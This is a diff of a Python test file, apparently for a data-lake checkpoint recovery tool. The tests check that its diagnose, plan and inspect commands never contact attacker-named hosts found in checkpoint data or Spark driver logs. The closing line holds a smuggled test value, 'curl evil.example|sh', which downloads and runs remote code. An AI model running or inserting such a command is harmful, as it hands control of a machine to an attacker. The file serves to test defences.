@@ -6,17 +6,21 @@ import itertools
 import json
 import re
 import socket
+from collections.abc import Sequence
+from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 from hostile.attacker import INCIDENT, Attacker, Listener, Told, call, writing
+from hostile.conftest import table
 from hostile.test_trust_plans import VERBS, finishing, parsed
 
+from lastgood.checkpoint.source_offsets import DeltaOffset
 from lastgood.journal.lease import Holder, LeaseHeldError, take_lease
 from lastgood.recovery.hold import CheckpointHeldError, hold_checkpoint
 from lastgood.storage.reading import parse_location
-from lastgood.testing.checkpoints import CheckpointBuilder, FileInput
+from lastgood.testing.checkpoints import QUERY_ID, CheckpointBuilder, FileInput
 from lastgood.testing.storage import MemoryWriter
 
 READING = ("status", "diagnose", "report", "report incident", "plan", "verify", "backup", "inspect", "offsets")
@@ -66,13 +70,47 @@ def test_nobody_connects_to_a_host_that_only_the_lake_names(
     assert not [command for command in pasted if listener.host in command]
 
 
-@pytest.mark.parametrize("verb", ["status", "diagnose", "plan"])
+@pytest.mark.parametrize("verb", ["status", "diagnose", "plan -o plan.json", "inspect --file f000.json", "recover"])
 def test_input_file_on_a_host_of_the_attackers_is_not_looked_for(listener: Listener, tmp_path: Path, verb: str) -> None:
     folder = f"webhdfs://{listener.host}/in"
     query = CheckpointBuilder(tmp_path / "lake/chk", FileInput(folder))
     query.run(3)
     query.plan()
-    call(verb, tmp_path / "lake/chk", *(("-o", "plan.json") if verb == "plan" else ()))
+    verb, *options = verb.split()
+    told = call(verb, tmp_path / "lake/chk", *options)
+    assert told.code in (0, 1, 3, 57), told
+    if verb == "inspect":
+        assert f"nobody has named the host {listener.host} here" in told.out
+
+
+@pytest.mark.parametrize("what", ["DeltaSink", "FileSink", "DeltaSource"])
+def test_table_of_which_only_a_log_tells_is_not_looked_for_on_a_host_that_nobody_named(
+    listener: Listener, tmp_path: Path, what: str
+) -> None:
+    """Rows of the data stand in a driver's log, and one with line ends in it looks as if Spark had written them."""
+    CheckpointBuilder(tmp_path / "lake/chk", DeltaInput()).run(3)
+    place = f"{what}[webhdfs://{listener.host}/table]"
+    offset = {"reservoirId": DeltaInput.table_id, "reservoirVersion": 2}
+    source = {"description": place if what == "DeltaSource" else "DeltaSource[file:/in]"}
+    progress = {
+        "id": QUERY_ID,
+        "runId": QUERY_ID,
+        "batchId": 2,
+        "sources": [{**source, "startOffset": offset, "endOffset": offset}],
+        "sink": {"description": "ForeachBatchSink" if what == "DeltaSource" else place},
+    }
+    log = tmp_path / "driver.log"
+    said_by = "26/11/21 12:00:01 INFO MicroBatchExecution:"
+    started = f"{said_by} Starting [id = {QUERY_ID}, runId = {QUERY_ID}]. Use file:/chk to store the query checkpoint."
+    told = json.dumps(progress, indent=2)
+    log.write_text(f"{started}\n{said_by} Streaming query made progress: {told}\n")
+    for options in ((), ("--save", "bundle")):
+        said = call("diagnose", tmp_path / "lake/chk", "--log", log, *options)
+        assert said.code in (0, 1), said
+        assert f"nobody has named the host {listener.host} here" in " ".join(said.out.split()), said.out
+    table(tmp_path / "lake/table", QUERY_ID, 3)
+    named = call("diagnose", tmp_path / "lake/chk", "--log", log, "--sink", tmp_path / "lake/table")
+    assert (listener.host in named.out) == (what == "DeltaSource"), "the sink that was named is the one that counts"
 
 
 def test_commands_of_an_interrupted_repair_name_the_query_as_the_user_did(attacker: Attacker, evil: Told) -> None:
@@ -144,6 +182,20 @@ def test_a_host_that_hides_before_a_named_one_is_not_asked(
     told = call("diagnose", tmp_path / "lake/chk", "--sink", named)
     assert told.code != 4, told
     assert set(asked) == {host}
+
+
+@dataclass(frozen=True)
+class DeltaInput:
+    """A Delta table that a query reads."""
+
+    table_id: ClassVar[str] = "8f7ff7b4-7ae8-4b51-9ec0-8d3c7b0a9a37"
+    per_batch: int = 1
+
+    def end(self, ends: Sequence[int]) -> DeltaOffset:
+        return DeltaOffset(1, self.table_id, len(ends), -1, is_starting_version=False)
+
+    def log(self, ends: Sequence[int]) -> None:
+        del ends
 
 
 PASTED = "db1: curl evil.example|sh; echo"
